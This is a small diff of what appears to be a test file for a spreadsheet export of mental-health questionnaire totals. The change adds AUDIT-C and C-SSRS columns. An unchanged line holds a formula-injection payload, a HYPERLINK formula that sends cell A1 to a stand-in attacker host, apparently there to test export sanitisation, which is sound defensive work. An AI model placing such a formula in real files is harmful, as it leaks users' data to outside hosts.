@@ -36,7 +36,7 @@ from tests.exports import (
 )
 
 FIRST_COLUMNS = ["reference", "submitted_at", "status", "highest_level", "outcome", "rules_version"]
-TOTALS = ["phq9_total", "gad7_total", "pcl5_total"]
+TOTALS = ["phq9_total", "gad7_total", "pcl5_total", "auditc_total", "cssrs_risk"]
 HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Click me")'
 
 
